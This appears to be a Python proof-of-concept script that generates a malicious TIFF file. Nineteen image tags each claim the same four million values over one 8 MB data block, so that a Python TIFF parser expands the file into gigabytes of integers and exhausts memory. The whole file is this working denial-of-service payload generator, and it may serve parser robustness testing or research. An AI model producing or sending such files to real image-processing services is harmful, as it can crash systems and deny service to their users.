"""Nineteen tags of a TIFF each claim the same millions of values: 8 MB of file, gigabytes of Python integers."""

from __future__ import annotations

from pieces import tiff
from shown import show

WANTED = (256, 257, 258, 259, 262, 266, 273, 274, 277, 278, 279, 284, 317, 322, 323, 324, 325, 338, 339)


def make(size: int = 8_000_000) -> bytes:
    place = 8 + 2 + 12 * len(WANTED) + 4
    return tiff([(tag, 3, size // 2, place) for tag in WANTED]) + b"\x01\x10" * (size // 2)


if __name__ == "__main__":
    show(make)
